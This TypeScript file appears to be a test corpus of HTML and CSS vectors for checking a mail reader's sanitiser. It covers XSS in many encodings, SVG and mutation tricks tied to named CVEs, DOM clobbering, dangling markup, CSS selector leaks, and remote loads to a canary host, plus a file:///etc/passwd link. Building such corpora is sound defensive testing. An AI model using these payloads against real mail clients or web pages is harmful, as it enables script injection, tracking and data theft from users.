import { canary, type Vector } from './corpora.ts'

const js = `alert(1);fetch('${canary}/script');top.location='${canary}/top'`
const entities = (text: string) => Array.from(text, (char) => `&#${char.codePointAt(0) ?? 0}`).join(';') + ';'
const picture =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** Every property that may take a picture or a URL. */
const urlProperties = [
  'background',
  'background-image',
  'border-image',
  'border-image-source',
  'list-style',
  'list-style-image',
  'content',
  'cursor',
  'clip-path',
  'filter',
  'backdrop-filter',
  'mask',
  'mask-image',
  '-webkit-mask',
  '-webkit-mask-image',
  '-webkit-mask-box-image',
  '-webkit-box-reflect',
  'shape-outside',
  'marker',
  'marker-start',
  'fill',
  'stroke',
  'offset-path',
  'src',
  'behavior',
  '-moz-binding',
]

const urlForms = (path: string) => [
  `url(${canary}/${path})`,
  `URL( "${canary}/${path}" )`,
  `u\\72 l(${canary}/${path})`,
  `\\75\\72\\6c(${canary}/${path})`,
  `image-set("${canary}/${path}" 1x)`,
  `-webkit-image-set(url(${canary}/${path}) 1x)`,
  `cross-fade(url(${canary}/${path}), url(${canary}/${path}), 50%)`,
  `url(//canary.test/${path})`,
  `linear-gradient(red, blue), url(${canary}/${path})`,
]

const css: Vector[] = [
  ...urlProperties.flatMap((property) => [
    {
      name: `style attributes, ${property}`,
      html: urlForms(property)
        .map((value) => `<p style='${property}:${value} !important'>x</p>`)
        .join(''),
    },
    {
      name: `style element, ${property}`,
      html: `<style>${urlForms(property)
        .map((value, index) => `.c${index},.c${index}::before{${property}:${value}}`)
        .join('\n')}</style>${urlForms(property)
        .map((_value, index) => `<p class=c${index}>x</p>`)
        .join('')}`,
    },
  ]),
  {
    name: '@import',
    html: `<style>@import url(${canary}/i.css);@import "${canary}/j.css";p{color:red}</style><p>x</p>`,
  },
  {
    name: '@import with escapes',
    html: `<style>@\\69mport url(${canary}/i.css); @i\\6dport'${canary}/j'</style><p>x`,
  },
  {
    name: '@import in @media and @layer',
    html: `<style>@media all{@import url(${canary}/i)}@layer x{@import url(${canary}/i)}</style>x`,
  },
  {
    name: '@import behind a charset and a comment',
    html: `<style>@charset "utf-7";/**/@import/**/url(${canary}/i)</style>x`,
  },
  {
    name: '@font-face',
    html: `<style>@font-face{font-family:x;src:url(${canary}/f)}p{font-family:x}</style><p>x</p>`,
  },
  {
    name: '@namespace, @page, @counter-style',
    html: `<style>@namespace url(${canary}/n);@page{background:url(${canary}/p)}@counter-style x{system:cyclic;symbols:url(${canary}/c)}li{list-style:x}</style><li>x`,
  },
  {
    name: '@supports, @container, @scope around a URL',
    html: `<style>@supports(display:grid){p{background:url(${canary}/s)}}@container(width>1px){p{background:url(${canary}/s)}}@scope(p){:scope{background:url(${canary}/s)}}</style><p>x</p>`,
  },
  {
    name: 'nested rules',
    html: `<style>p{color:red;& b{background:url(${canary}/n)}@media all{background:url(${canary}/n)}}</style><p><b>x</b></p>`,
  },
  {
    name: 'var() (CVE-2026-48846)',
    html: `<style>:root{--a:url(${canary}/v)}p{background:var(--a);background-image:var(--b,url(${canary}/w))}</style><p style="--c:url(${canary}/x);background:var(--c)">x</p>`,
  },
  {
    name: '@property and registered custom properties',
    html: `<style>@property --a{syntax:"<image>";inherits:true;initial-value:url(${canary}/v)}p{background:var(--a)}</style><p>x</p>`,
  },
  {
    name: 'attr() as a URL',
    html: `<p data-u="${canary}/a" style="background:attr(data-u url);background:attr(data-u type(<image>))">x</p>`,
  },
  {
    name: '!important after position:fixed (CVE-2026-35544)',
    html: `<p style="position:fixed !important;top:0;left:0;width:9999px;height:9999px;background:red">x</p><style>p{position:fixed!important;inset:0}</style>`,
  },
  {
    name: 'position spelt with escapes and comments',
    html: `<p style="pos\\69tion:fi\\78 ed;top:0">x</p><p style="position/**/:/**/fixed;top:0">x</p><p style="position:-webkit-sticky;top:0">x</p>`,
  },
  {
    name: 'closing the style element inside',
    html: `<style>p{color:red}</style/><img src=${canary}/c></style><p style="color:red</style><img src=${canary}/c>">x</p>`,
  },
  {
    name: 'breaking out of a declaration block',
    html: `<p style="color:red}body{background:url(${canary}/b)">x</p><style>p{color:red}}body{background:url(${canary}/b)}</style>`,
  },
  {
    name: 'unclosed string, comment and block',
    html: `<style>p{color:"red; background:url(${canary}/u)</style><style>/* p{}</style><p style="font-family:'x;background:url(${canary}/u)">x</p>`,
  },
  {
    name: 'selectors that read attributes',
    html: `<style>input[value^=a]{background:url(${canary}/a)}a[href*=x]::after{content:url(${canary}/b)}</style><input value=abc><a href=https://x.example/>x</a>`,
  },
  {
    name: 'animation and transition to a URL',
    html: `<style>@keyframes k{to{background:url(${canary}/k)}}p{animation:k 1ms forwards;transition:all 1ms}p:hover{background:url(${canary}/h)}</style><p>x</p>`,
  },
  {
    name: 'style element with media that breaks out',
    html: `<style media="all{}@import url(${canary}/m);@media all">p{color:red}</style><p>x</p>`,
  },
  {
    name: 'style element of a type unknown',
    html: `<style type="text/x">@import url(${canary}/t)</style><style type>p{background:url(${canary}/t)}</style><p>x`,
  },
  {
    name: 'stylesheet link in many forms',
    html: `<link rel=stylesheet href=${canary}/l><link rel="alternate stylesheet" href=${canary}/l><link rel=stylesheet href="data:text/css,@import url(${canary}/l)"><?xml-stylesheet href="${canary}/l"?>x`,
  },
  {
    name: 'huge z-index, transform, negative margins',
    html: `<div style="position:absolute;z-index:2147483647;transform:scale(100);margin:-5000px;width:9999px;height:9999px;background:red">x</div>`,
  },
  {
    name: 'viewport sized element',
    html: `<div style="position:fixed;inset:0;width:100vw;height:100vh;background:red"></div><dialog open style="position:fixed">x</dialog><div popover=manual>x</div>`,
  },
]

const loads: Vector[] = [
  {
    name: 'img src',
    html: `<img src=${canary}/i><img src=//canary.test/i><IMG SRC="HTTP://CANARY.TEST/i"><image src=${canary}/i>`,
  },
  {
    name: 'img srcset and sizes',
    html: `<img srcset="${canary}/a 1x, ${canary}/b 2x" sizes=100vw><img src="${picture}" srcset="${canary}/a 1x">`,
  },
  {
    name: 'picture and source',
    html: `<picture><source srcset=${canary}/a><source media=all srcset=${canary}/b><img src=${canary}/c></picture>`,
  },
  {
    name: 'img dynsrc, lowsrc, longdesc',
    html: `<img dynsrc=${canary}/a lowsrc=${canary}/b longdesc=${canary}/c attributionsrc=${canary}/d>`,
  },
  {
    name: 'input type=image',
    html: `<input type=image src=${canary}/i formaction=${canary}/f autofocus onfocus="${js}">`,
  },
  {
    name: 'video, audio, track, poster',
    html: `<video poster=${canary}/p src=${canary}/v autoplay><source src=${canary}/s><track default src=${canary}/t></video><audio src=${canary}/a autoplay></audio><bgsound src=${canary}/b>`,
  },
  {
    name: 'object, embed, applet, param',
    html: `<object data=${canary}/o><param name=src value=${canary}/p></object><embed src=${canary}/e><applet code=${canary}/a archive=${canary}/b>`,
  },
  {
    name: 'iframes and frames',
    html: `<iframe src=${canary}/f></iframe><iframe srcdoc="<img src=${canary}/s>"></iframe><frameset><frame src=${canary}/g></frameset><portal src=${canary}/h></portal><fencedframe src=${canary}/i>`,
  },
  {
    name: 'iframe javascript: and data:',
    html: `<iframe src="javascript:${js}"></iframe><iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  },
  {
    name: 'background attributes',
    html: `<body background=${canary}/b><table background=${canary}/t><tr background=${canary}/r><td background=${canary}/d>x</table>`,
  },
  {
    name: 'body background in a second body',
    html: `<p>x</p><body background=${canary}/b style="background:url(${canary}/c)" onload="${js}">`,
  },
  { name: 'html manifest and profile', html: `<html manifest=${canary}/m><head profile=${canary}/p><body>x` },
  {
    name: 'links that load ahead',
    html: [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'icon',
      'manifest',
      'import',
      'pingback',
      'next',
    ]
      .map((rel) => `<link rel=${rel} as=image href=${canary}/${rel}>`)
      .join(''),
  },
  {
    name: 'speculation rules and import maps',
    html: `<script type=speculationrules>{"prefetch":[{"urls":["${canary}/s"]}]}</script><script type=importmap>{"imports":{"a":"${canary}/a"}}</script>`,
  },
  {
    name: 'ping and attribution',
    html: `<a href=https://x.example/ ping=${canary}/p attributionsrc=${canary}/a>x</a>`,
  },
  {
    name: 'cite, usemap, longdesc, action',
    html: `<blockquote cite=${canary}/c>x</blockquote><q cite=${canary}/c>x</q><ins cite=${canary}/c>x</ins><img usemap="${canary}/m#x">`,
  },
  {
    name: 'cid: that is no picture',
    html: `<img src="cid:../../api/session"><img src="cid:x?y#z"><img src="cid:%00%0d%0aX: y"><iframe src="cid:x"></iframe><object data="cid:x">`,
  },
  {
    name: 'own paths',
    html: `<img src="/api/session"><img src="api/messages"><img src="?x"><img src="../x"><a href="/api/sign-out">x</a><form action="/api/sign-out" method=post><button autofocus>x</button></form>`,
  },
  {
    name: 'data: picture that is a document',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'><image href='${canary}/s'/></svg>"><img src="data:text/html,<script>${js}</script>">`,
  },
  {
    name: 'data: picture with more behind it',
    html: `<img src='${picture}" onerror="${js}'><img src='${picture}&#34;&#62;&#60;img src=${canary}/x&#62;'>`,
  },
  { name: 'dangling markup', html: `<img src='${canary}/?<p>secret` },
  {
    name: 'dangling markup by target and base',
    html: `<base target='<p>secret</p><a href=https://x.example/>x</a>`,
  },
  { name: 'dangling textarea and form', html: `<form action=${canary}/f><textarea name=t autofocus>` },
  { name: 'base', html: `<base href=${canary}/><img src=x><a href=x>x</a><link rel=stylesheet href=x>` },
  {
    name: 'meta refresh',
    html: `<meta http-equiv=refresh content="0;url=${canary}/r"><meta http-equiv="refresh" content="0;javascript:${js}"><META HTTP-EQUIV=REFRESH CONTENT="0, ${canary}/r">`,
  },
  {
    name: 'meta policies and cookies',
    html: `<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=Set-Cookie content=a=b><meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on>`,
  },
  {
    name: 'meta report',
    html: `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri ${canary}/r"><meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none'; report-uri ${canary}/r"><img src=x>`,
  },
  {
    name: 'declarative shadow DOM',
    html: `<div><template shadowrootmode=open><style>:host{background:url(${canary}/s)}</style><img src=${canary}/t><script>${js}</script></template></div>`,
  },
  {
    name: 'template, noscript, noembed, xmp, plaintext',
    html: `<template><img src=${canary}/a></template><noscript><img src=${canary}/b></noscript><noembed><img src=${canary}/c></noembed><xmp><img src=${canary}/d></xmp><plaintext><img src=${canary}/e>`,
  },
  {
    name: 'XML islands and includes',
    html: `<xml id=x><a><b>&lt;img src=${canary}/x&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span><?import namespace=t implementation=${canary}/i?>`,
  },
  {
    name: 'Outlook conditional comments and VML',
    html: `<!--[if gte mso 9]><v:rect><v:fill src="${canary}/v"/></v:rect><![endif]--><![if !mso]><img src=${canary}/n><![endif]>`,
  },
]

const scripts: Vector[] = [
  {
    name: 'script in many forms',
    html: `<script>${js}</script><SCRIPT SRC=${canary}/s></SCRIPT><script type=module>${js}</script><script/x>${js}</script><scr<script>ipt>${js}</script>`,
  },
  {
    name: 'SVG script, animate, set (CVE-2024-37383, CVE-2025-68461)',
    html: `<svg><animate attributeName="href " values="javascript:${js}" href=#a /><a id=a><text x=20 y=20>x</text></a><set attributeName=href to="javascript:${js}"/><script>${js}</script></svg>`,
  },
  {
    name: 'SVG animate, attribute name in pieces',
    html: `<svg><a><animate attributeName=&#104;ref values=javascript:${js} begin=0s /><animate attributeName="xlink:href" from=javascript:${js} to=&></a></svg>`,
  },
  {
    name: 'SVG use (CVE-2023-5631)',
    html: `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id=x xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js}"/></svg>`).toString('base64')}#x" /><use xlink:href="${canary}/u#x"/></svg>`,
  },
  {
    name: 'SVG feImage (CVE-2026-25916)',
    html: `<svg><filter id=f><feImage href=${canary}/f /><feImage xlink:href=${canary}/g /></filter><rect width=9 height=9 filter=url(#f) /></svg>`,
  },
  {
    name: 'SVG image, pattern, cursor, style',
    html: `<svg><image href=${canary}/i /><style>rect{fill:url(${canary}/j)}</style><rect width=9 height=9 style="fill:url(${canary}/k)"/><foreignObject><img src=${canary}/l></foreignObject></svg>`,
  },
  {
    name: 'desanitising (CVE-2024-42009)',
    html: `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=${js} foo=bar">x</body>`,
  },
  {
    name: 'title that names attributes',
    html: `<p title="</p><img src=x onerror=${js}>">x</p><a title='" onmouseover="${js}" x="' href=https://x.example>x</a>`,
  },
  {
    name: 'attachment name in a header (CVE-2023-47272)',
    html: `<a download="x&quot;;filename=&quot;y.html" href="data:text/html,<script>${js}</script>">x</a>`,
  },
  {
    name: 'ICS by ontoggle (CVE-2025-27915)',
    html: `<details ontoggle="${js}" open>x</details><details open><summary onfocus="${js}" autofocus>x</summary></details>`,
  },
  {
    name: 'handlers that fire by themselves',
    html: `<body onload="${js}" onpageshow="${js}"><img src=x onerror="${js}"><marquee onstart="${js}">x</marquee><video onloadstart="${js}"><source onerror="${js}"></video><style onload="${js}"></style><input autofocus onfocus="${js}"><div contenteditable autofocus onfocus="${js}">x</div><p onanimationstart="${js}" style="animation:x 1s">`,
  },
  {
    name: 'javascript: links',
    html: `<a href="javascript:${js}">a</a><a href=" \u0001javascript:${js}">b</a><a href="java\tscript:${js}">c</a><a href="&#x6A;avascript:${js}">d</a><a href="${entities(`javascript:${js}`)}">e</a><a href="JaVaScRiPt&colon;${js}">f</a><a href="view-source:javascript:${js}">g</a><area href="vbscript:x">`,
  },
  {
    name: 'data:, blob:, file:, filesystem: links',
    html: `<a href="data:text/html,<script>${js}</script>">a</a><a href="blob:http://127.0.0.1/x">b</a><a href="file:///etc/passwd">c</a><a href="filesystem:http://x/">d</a><a href="about:srcdoc">e</a><a href="intent://x">f</a>`,
  },
  {
    name: 'links with targets and names',
    html: `<a href=https://x.example target=_top>a</a><a href=https://x.example target=_parent rel=opener>b</a><a href=https://x.example target="x" download>c</a><map name=m><area href=https://x.example target=_top shape=default></map>`,
  },
  {
    name: 'forms',
    html: `<form action=${canary}/f id=f><input name=a autofocus><input type=submit></form><button form=f formaction="javascript:${js}" autofocus>x</button><form action="javascript:${js}"><isindex><keygen autofocus onfocus="${js}">`,
  },
  {
    name: 'clobbering',
    html: `<form id=x><input name=attributes><input name=ownerDocument><input name=parentNode><input name=nodeName><img name=body><img name=createElement><a id=location href=${canary}/c>`,
  },
  {
    name: 'mutation: math, style, title',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${canary}/m onerror=${js}&gt;">`,
  },
  {
    name: 'mutation: form in form',
    html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src=${canary}/m>">`,
  },
  {
    name: 'mutation: noscript',
    html: `<noscript><p title="</noscript><img src=${canary}/m onerror=${js}>">`,
  },
  {
    name: 'mutation: p in svg',
    html: `<svg></p><style><a id="</style><img src=${canary}/m onerror=${js}>">`,
  },
  {
    name: 'mutation: annotation-xml',
    html: `<math><annotation-xml encoding="text/html"><style><img src=${canary}/m onerror=${js}></style></annotation-xml></math>`,
  },
  {
    name: 'mutation: deep nesting',
    html: `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=${canary}/m onerror=${js}></a>">`,
  },
  {
    name: 'mutation: table text',
    html: `<table><td><select><table><a></select><img src=${canary}/m></table>`,
  },
  {
    name: 'mutation: comment ends',
    html: `<!--!><img src=${canary}/a--><!--><img src=x onerror=${js}>--><!- -><!--[if]><script>${js}</script --><![CDATA[<img src=${canary}/m>]]>`,
  },
  {
    name: 'processing instruction and doctype',
    html: `<?php echo "<img src=${canary}/p>" ?><!DOCTYPE x [<!ENTITY a SYSTEM "${canary}/e">]>&a;`,
  },
  {
    name: 'frame breaking out of srcdoc',
    html: `"></iframe><img src=${canary}/o><script>${js}</script>&quot;&gt;&lt;/iframe&gt;&lt;script&gt;${js}&lt;/script&gt;`,
  },
  {
    name: 'body class breaking out',
    html: `<body class='"><script>${js}</script><img src=${canary}/b>' id='"><img src=${canary}/i>'>x`,
  },
  {
    name: 'custom elements and is=',
    html: `<x-y onclick="${js}" is=z style="background:url(${canary}/x)">x</x-y><button is=x-y>x</button>`,
  },
  {
    name: 'autoplaying marquee and blink',
    html: `<marquee behavior=alternate width=9999 onbounce="${js}">x</marquee><blink>x</blink>`,
  },
  {
    name: 'patch linkage and new commands',
    html: `<button commandfor=x command=show-popover interesttarget=x popovertarget=x>x</button><dialog id=x open>x</dialog><select><selectedcontent></selectedcontent></select>`,
  },
]

/** Attacks on mail readers, each by its idea: reference/security.md section 2 names most of them. */
export const ownVectors: readonly Vector[] = [...css, ...loads, ...scripts]
